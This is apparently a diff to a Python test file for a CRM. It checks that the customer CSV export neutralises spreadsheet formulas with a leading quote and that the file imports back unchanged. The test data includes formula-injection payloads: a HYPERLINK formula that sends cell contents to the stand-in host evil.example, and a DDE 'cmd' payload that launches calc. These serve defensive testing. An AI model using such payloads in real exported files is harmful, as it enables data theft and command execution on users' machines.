@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import re
 from collections.abc import AsyncIterator
@@ -422,8 +423,8 @@ async def test_import_then_export_csv_and_xlsx(crm: Crm) -> None:
     status, body = await crm.call("sup", "GET", "/api/v1/customers/export")
     assert status == 200
     text = body.decode("utf-8-sig")
-    assert (
-        "张伟,,华为,,vip;gold,,,张伟,+86 138 0013 8001,zw@example.com,1980-01-02"
+    assert (  # a number starting with "+" is neutralised like a formula
+        "张伟,,华为,,vip;gold,,,张伟,'+86 138 0013 8001,zw@example.com,1980-01-02"
         in text.replace("person,", "").replace("张伟,华为", "张伟,,华为")
     )
     status, body = await crm.call(
@@ -439,6 +440,37 @@ async def test_import_then_export_csv_and_xlsx(crm: Crm) -> None:
         "sup", "POST", "/api/v1/customers/import", params={"format": "xlsx"}, data=body
     )
     assert status == 422 and {e["error"] for e in report["errors"]} == {"duplicate"}
+
+
+FORMULAS = {
+    "name": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "company": "+cmd|' /C calc'!A0",
+    "notes": "\t=1+1",
+    "tier": "@SUM(A1)",
+    "tags": ["-2+3"],
+}
+
+
+async def test_csv_export_never_writes_a_formula(crm: Crm) -> None:
+    """Issue 13 item 2: every cell a spreadsheet would run as a formula gets a leading
+    quote, as the statistics CSV does; the exported file imports back unchanged."""
+    created = await _create(crm, "sup", {**FORMULAS, "contacts": [
+        {"name": "=1+1", "phones": [{"number": "+86 138 0013 8009"}]}]})  # fmt: skip
+    status, body = await crm.call("sup", "GET", "/api/v1/customers/export")
+    assert status == 200
+    (header, row) = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
+    cells = dict(zip(header, row, strict=True))
+    for column, value in {**FORMULAS, "tags": FORMULAS["tags"][0], "contact_name": "=1+1",
+                          "phones": "+86 138 0013 8009"}.items():  # fmt: skip
+        assert cells[column] == "'" + value, column
+    assert all(not c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in row)
+    # the export imports back as it was (here: into an empty store)
+    await crm.call("sup", "DELETE", f"/api/v1/customers/{created['id']}")
+    status, report = await crm.call("sup", "POST", "/api/v1/customers/import", data=body)
+    assert status == 200, report
+    status, data = await crm.call("sup", "GET", "/api/v1/customers")
+    (back,) = data["customers"]
+    assert {k: back[k] for k in FORMULAS} == FORMULAS
 
 
 # --- hostile values ------------------------------------------------------------------------
